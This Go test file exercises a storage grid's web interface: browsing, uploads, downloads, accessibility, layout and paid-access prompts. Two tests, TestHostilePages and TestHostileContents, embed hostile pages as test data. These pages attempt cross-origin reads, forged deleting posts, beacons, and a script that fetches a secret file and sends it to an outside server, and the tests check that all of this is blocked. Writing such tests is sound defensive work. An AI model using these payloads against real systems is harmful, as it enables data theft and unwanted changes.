package web_test

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"trunkline/grid/web"
)

// paste opens a cap on the first page.
func (p *tab) paste(w *world, cap string) {
	p.t.Helper()
	p.open(w.server.URL + "/")
	p.eval(fmt.Sprintf("document.querySelector('#uri').value = %q", cap))
	p.click(".open button")
}

// named checks that whatever a person may use has a name for those who do not see it.
func (p *tab) named() {
	p.t.Helper()
	nameless := p.eval(`[...document.querySelectorAll("input:not([type=hidden]), button, a, img, video, audio")].filter(e => e.checkVisibility() &&
		!(e.innerText || "").trim() && !e.getAttribute("aria-label") && !e.alt && !e.title && !e.placeholder && !(e.labels && e.labels.length && [...e.labels].some(l => l.innerText.trim()))
		&& !["VIDEO", "AUDIO"].includes(e.tagName)).map(e => e.outerHTML).join("\n")`)
	if nameless != "" {
		p.t.Errorf("%s has things without a name: %s", p.eval("location.pathname"), nameless)
	}
	if wide := p.eval("document.documentElement.scrollWidth > innerWidth"); wide == "true" {
		p.t.Errorf("%s is wider than the window", p.eval("location.pathname"))
	}
}

func (p *tab) local(name, content string) string {
	p.t.Helper()
	path := filepath.Join(p.dir, name)
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		p.t.Fatal(err)
	}
	return path
}

// A person pastes a cap, browses, uploads, makes, renames and removes, with scripts and without.
func TestBrowsing(t *testing.T) {
	t.Parallel()
	b := newBrowser(t)
	for _, scripts := range []bool{true, false} {
		t.Run(fmt.Sprintf("scripts %v", scripts), func(t *testing.T) {
			b.t = t
			w := newWorld(t, nil)
			root := w.post("/uri?t=mkdir", "")
			w.put("/uri/"+root+"/letters/to%20Ada.txt", "Dear Ada, the engine arrived.")
			p := b.tab()
			p.scripts(scripts)
			p.open(w.server.URL + "/")
			p.named()
			p.shot("front")
			p.paste(w, "URI:CHK:abc")
			if !strings.Contains(p.text(), "Check that the whole cap was copied") {
				t.Errorf("a cap that was cut shows %s", p.text())
			}
			p.errors = nil // the status of that page
			p.paste(w, "  "+root[:20]+"\n "+root[20:]+" ")
			if at := p.eval("location.href"); strings.Contains(at, "URI:") || strings.Contains(at, "URI%3A") || strings.Contains(at, root[9:20]) {
				t.Errorf("the address is %s", at)
			}
			p.named()
			p.shot("directory")
			p.click(".listing a[href$='/letters']")
			p.click(".listing a[href*='Ada.txt']")
			if text := p.text(); !strings.Contains(text, "Dear Ada") || !strings.Contains(text, "to Ada.txt") || !strings.Contains(text, "29 B") {
				t.Errorf("the file's page shows %s", text)
			}
			p.named()
			p.shot("file")
			p.click(".crumbs a")

			// Upload.
			name := p.local(fmt.Sprintf("photo %v.jpg", scripts), strings.Repeat("jpeg", 1000))
			if scripts {
				// The listing is loaded anew when both are stored.
				p.load(func() { p.choose(".drop input[type=file]", name, p.local("second.txt", "two")) })
				p.becomes("document.querySelector('table').innerText", "second.txt")
			} else {
				p.choose(".drop input[type=file]", name)
				p.click(".drop button")
			}
			p.becomes("document.querySelector('table').innerText", filepath.Base(name))
			if got := w.get("/uri/" + root + "/" + strings.ReplaceAll(filepath.Base(name), " ", "%20")); got != strings.Repeat("jpeg", 1000) {
				t.Errorf("%d bytes were stored", len(got))
			}

			// Make, rename, remove.
			p.eval("document.querySelector('#newdir').value = 'Plans & <b>ideas'")
			p.click(".tools form:last-child button")
			if !strings.Contains(p.text(), "Plans & <b>ideas") {
				t.Errorf("the new directory is not there: %s", p.text())
			}
			p.click("a.edit[href*='Plans']")
			p.named()
			p.eval("document.querySelector('#to').value = 'Plans'")
			p.click("form button")
			if text := p.text(); !strings.Contains(text, "Plans") || strings.Contains(text, "ideas") {
				t.Errorf("after the rename: %s", text)
			}
			p.click("a.edit[href*='Plans']")
			p.click("button.danger")
			if text := p.text(); strings.Contains(text, "Plans") {
				t.Errorf("after the removal: %s", text)
			}
			p.click("form.check button")
			if text := p.text(); !strings.Contains(text, "Healthy") || !strings.Contains(text, "10 of 10") {
				t.Errorf("the check shows %s", text)
			}
			p.named()
			p.shot("check")
			p.clean()
		})
	}
	b.t = t
}

// A new file or directory shows its cap, and can be opened at once.
func TestStoringUnlinked(t *testing.T) {
	t.Parallel()
	b := newBrowser(t)
	w := newWorld(t, nil)
	p := b.tab()
	p.open(w.server.URL + "/")
	p.choose(".drop input[type=file]", p.local("a.txt", strings.Repeat("words ", 100)))
	p.becomes("document.querySelector('.transfers').innerText", "stored")
	p.shot("stored")
	p.load(func() {
		p.eval("[...document.querySelectorAll('.transfers button')].find(b => b.textContent == 'Open').click()")
	})
	if text := p.text(); !strings.Contains(text, "600 B") {
		t.Errorf("the file's page shows %s", text)
	}
	p.open(w.server.URL + "/")
	p.click("form.stack button")
	if text := p.eval("document.querySelector('#cap-saved').value"); !strings.HasPrefix(text, "URI:DIR2:") {
		t.Errorf("the new directory's cap is %s", text)
	}
	p.named()
	p.shot("saved")
	p.click("a.button")
	if text := p.text(); !strings.Contains(text, "Nothing is in here yet") {
		t.Errorf("the new directory shows %s", text)
	}
	p.shot("empty")

	// Dropped on the page.
	p.load(func() {
		p.eval(`(() => { const d = new DataTransfer(); d.items.add(new File(["dropped"], "dropped.txt")); d.items.add(new File(["more"], "more ü.txt"));
			dispatchEvent(new DragEvent("drop", {dataTransfer: d, bubbles: true, cancelable: true})); })()`)
	})
	if text := p.text(); !strings.Contains(text, "dropped.txt") || !strings.Contains(text, "more ü.txt") {
		t.Errorf("after the drop: %s", text)
	}
	p.clean()

	// Without scripts a form does it.
	p.scripts(false)
	p.open(w.server.URL + "/")
	p.choose(".drop input[type=file]", p.local("b.txt", strings.Repeat("words ", 100)))
	p.click(".drop button")
	if text := p.eval("document.querySelector('#cap-saved').value"); !strings.HasPrefix(text, "URI:CHK:") {
		t.Errorf("the new file's cap is %s", text)
	}
	p.clean()
}

// A download is followed to its end, and what broke off is said.
func TestDownloading(t *testing.T) {
	t.Parallel()
	b := newBrowser(t)
	w := newWorld(t, nil)
	root := w.post("/uri?t=mkdir", "")
	content := strings.Repeat("0123456789", 1<<18)
	w.put("/uri/"+root+"/large%20file.bin", content)
	p := b.tab()
	p.paste(w, root)
	p.click("td.name a")
	p.eval("document.querySelector('[data-download]').click()")
	p.becomes("document.querySelector('.transfers').innerText", "every byte checked")
	p.shot("downloaded")
	path := filepath.Join(b.downloads(), "large file.bin")
	for range 200 {
		if got, err := os.ReadFile(path); err == nil && len(got) == len(content) {
			break
		}
		time.Sleep(20 * time.Millisecond) // the browser writes it in its own time
	}
	if got, err := os.ReadFile(path); err != nil || string(got) != content {
		t.Errorf("%d bytes were kept: %v", len(got), err)
	}
	p.clean()
}

// Pages of others, wherever they are, read nothing and change nothing, whatever they try.
func TestHostilePages(t *testing.T) {
	t.Parallel()
	b := newBrowser(t)
	w := newWorld(t, nil)
	root := w.post("/uri?t=mkdir", "")
	w.put("/uri/"+root+"/picture.svg", `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>`+strings.Repeat(" ", 100))
	w.put("/uri/"+root+"/code.js", "window.stolen = true;"+strings.Repeat(" ", 100))
	before := w.get("/uri/" + root + "?t=json")
	var mu sync.Mutex
	var asked []string
	evil := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			mu.Lock()
			asked = append(asked, r.URL.Path+"?"+r.URL.RawQuery)
			mu.Unlock()
			return
		}
		rw.Header().Set("Content-Type", "text/html")
		node := w.server.URL
		fmt.Fprintf(rw, `<!doctype html><body><script>window.told = []; function tell(s) { told.push(s); }</script><iframe name=f></iframe>
			<img id=i src="%[1]s/uri/%[2]s/picture.svg" onload="tell('image read')" onerror="tell('image refused')">
			<script src="%[1]s/uri/%[2]s/code.js" onload="tell('script read')" onerror="tell('script refused')"></script>
			<form id=post method=post target=f action="%[1]s/uri/%[2]s?t=unlink&name=code.js"></form>
			<form id=make method=post target=f action="%[1]s/uri/%[2]s?t=mkdir&name=evil"></form>
			<script>
			for (const m of ["GET", "POST", "PUT", "DELETE"]) for (const mode of ["cors", "no-cors"])
				fetch("%[1]s/uri/%[2]s/code.js", {method: m, mode, body: m == "GET" ? undefined : "x"})
					.then(r => r.type == "opaque" ? tell(m + " sent") : r.text().then(t => tell(m + " read " + t.slice(0, 20)))).catch(() => tell(m + " failed"));
			post.submit(); make.submit();
			navigator.sendBeacon("%[1]s/uri/%[2]s?t=mkdir&name=beacon", "");
			if (window.stolen) tell("code ran");
			</script>`, node, root)
	}))
	defer evil.Close()
	p := b.tab()
	// Another port of this machine, and another name: same site and not.
	for _, from := range []string{evil.URL, strings.Replace(evil.URL, "127.0.0.1", "localhost", 1)} {
		p.open(from + "/")
		p.becomes("told.length >= 8 ? told.join(', ') : ''", "image refused")
		if told := p.eval("told.join(', ')"); strings.Contains(told, "read") || strings.Contains(told, "ran") {
			t.Errorf("a page from %s could do this: %s", from, told)
		}
		p.becomes("String(window.frames.length)", "1")
		// A link, followed by a person who was talked into it.
		p.load(func() { p.eval("location.href = '" + w.server.URL + "/uri/" + root + "'") })
		if text := p.text(); !strings.Contains(text, "Refused") {
			t.Errorf("a link from %s leads to %s", from, text)
		}
	}
	if after := w.get("/uri/" + root + "?t=json"); after != before {
		t.Errorf("the directory changed: %s", after)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(asked) > 1 { // an icon at most
		for _, a := range asked {
			if !strings.HasPrefix(a, "/favicon") {
				t.Errorf("the evil server was told %s", a)
			}
		}
	}
}

// A page that is kept in a file runs nothing, reads nothing and tells nobody.
func TestHostileContents(t *testing.T) {
	t.Parallel()
	b := newBrowser(t)
	var mu sync.Mutex
	var told []string
	outside := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1000))
		told = append(told, r.URL.String()+" "+string(body)+" "+r.Referer())
	}))
	defer outside.Close()
	w := newWorld(t, nil)
	root := w.post("/uri?t=mkdir", "")
	w.put("/uri/"+root+"/secret", "what only I know")
	page := fmt.Sprintf(`<!doctype html><title>kept</title><body><h1 id=h>shown</h1><script>document.title = "ran"; fetch("/uri/%[1]s/secret").then(r => r.text()).then(t => fetch("%[2]s/leak?" + t))</script>
		<img src="%[2]s/pixel"><img src="x" onerror="document.title='ran'"><link rel=stylesheet href="%[2]s/style"><iframe src="/uri/%[1]s/secret"></iframe>
		<form id=f method=post action="/uri/%[1]s?t=unlink&name=secret"><button id=b>press</button></form><a id=a href="%[2]s/link">out</a>`, root, outside.URL)
	file := w.put("/uri", page)
	p := b.tab()
	p.open(w.server.URL + "/uri/" + file + "?filename=x.html")
	if title := p.eval("document.title"); title != "kept" {
		t.Errorf("the kept page's title is %q", title)
	}
	if text := p.eval("document.querySelector('#h').innerText"); text != "shown" {
		t.Errorf("the kept page shows %q", text)
	}
	p.eval("document.querySelector('#b').click()")
	if got := w.get("/uri/" + root + "/secret"); got != "what only I know" {
		t.Errorf("the secret is %q", got)
	}
	// The same as a picture, in a page of ours.
	svg := w.put("/uri", fmt.Sprintf(`<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><script>fetch("%s/svg")</script><rect width="20" height="20" fill="red"/></svg>%s`, outside.URL, strings.Repeat(" ", 100)))
	w.do("PUT", "/uri/"+root+"/p.svg?t=uri", svg, nil)
	p.paste(w, root)
	p.click(".listing a[href*='p.svg']")
	if width := p.eval("document.querySelector('.preview img').naturalWidth"); width != "20" {
		t.Errorf("the picture is %s wide", width)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(told) > 0 {
		t.Errorf("outside was told %q", told)
	}
}

// A call that costs is asked about before, in words and a price; yes is remembered.
func TestAskingAPerson(t *testing.T) {
	t.Parallel()
	b := newBrowser(t)
	w := newToll(t, func(c *web.Config) { c.Ceiling = 5000 })
	dear, dir := w.file(w.dear, strings.Repeat("far away ", 100)), w.directory(w.dear, 2)
	p := b.tab()
	p.paste(w.world, dear)
	if text := p.text(); !strings.Contains(text, "costs at most 0.001 EUR") || strings.Contains(text, "Download") {
		t.Errorf("before agreeing: %s", text)
	}
	p.named()
	p.shot("price")
	if paid := w.paid(); len(paid) > 0 {
		t.Errorf("paid %v for looking", paid)
	}
	p.click("button.pay")
	if text := p.text(); !strings.Contains(text, "Download") || strings.Contains(text, "Yes,") {
		t.Errorf("after agreeing: %s", text)
	}
	p.shot("price-agreed")
	p.eval("document.querySelector('[data-download]').click()")
	p.becomes("document.querySelector('.transfers').innerText", "every byte checked")
	p.paste(w.world, dir)
	if text := p.text(); !strings.Contains(text, "In another grid") || !strings.Contains(text, "1 entry") {
		t.Errorf("the directory shows %s", text)
	}
	p.clean()
	if len(w.paid()) != 2 {
		t.Errorf("paid %v", w.paid())
	}
}

// Pages hold together where there is little room, in the dark, and with very much to show.
func TestPagesHoldTogether(t *testing.T) {
	t.Parallel()
	b := newBrowser(t)
	w := newWorld(t, nil)
	root := w.post("/uri?t=mkdir", "")
	var body strings.Builder
	for i := range 2500 {
		fmt.Fprintf(&body, `%s"entry %04d": ["filenode", {"ro_uri": "URI:LIT:nbuq"}]`, map[bool]string{true: ",", false: "{"}[i > 0], i)
	}
	w.post("/uri/"+root+"?t=set_children", body.String()+"}")
	w.put("/uri/"+root+"/0%20"+strings.Repeat("long", 500), "x")
	p := b.tab()
	for _, width := range []int{1400, 1100, 700, 390, 320} {
		p.size(width, 800)
		p.dark(width%200 == 0)
		p.paste(w, root)
		p.named()
		p.shot(fmt.Sprintf("wide-%d", width))
		p.click("td.name a")
		p.named()
		p.open(w.server.URL + "/")
		p.named()
	}
	p.size(1100, 800)
	p.paste(w, root)
	if n := p.eval("document.querySelectorAll('.listing tbody tr').length"); n != "1000" {
		t.Errorf("%s rows", n)
	}
	p.click(".pages a:last-child")
	if n := p.eval("document.querySelectorAll('.listing tbody tr').length"); n != "501" {
		t.Errorf("%s rows on the last page", n)
	}
	p.eval("const f = document.querySelector('#filter'); f.value = 'entry 2400'; f.dispatchEvent(new Event('input'))")
	if n := p.eval("[...document.querySelectorAll('.listing tbody tr')].filter(r => !r.hidden).length"); n != "1" {
		t.Errorf("%s rows after filtering", n)
	}
	p.click("th.name a")
	p.click("th.name a")
	if first := p.eval("document.querySelector('td.name').innerText"); !strings.Contains(first, "entry 2499") {
		t.Errorf("sorted by name, falling, the first is %s", first)
	}
	p.clean()
}
